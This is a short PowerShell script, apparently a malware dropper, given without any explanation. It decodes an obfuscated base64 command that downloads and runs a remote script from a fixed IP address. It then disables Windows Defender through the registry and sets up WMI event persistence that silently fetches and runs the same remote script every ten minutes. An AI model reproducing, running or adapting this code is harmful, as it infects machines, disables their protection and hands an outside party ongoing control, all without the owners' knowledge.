$b = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADYANAAvAGIALgBwAHMAMQAnACkA'
$s = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b))
Invoke-Expression $s
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
$f = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='upd';EventNamespace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$c = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='upd';CommandLineTemplate='powershell -w hidden -c iex(irm http://198.51.100.64/b.ps1)'}
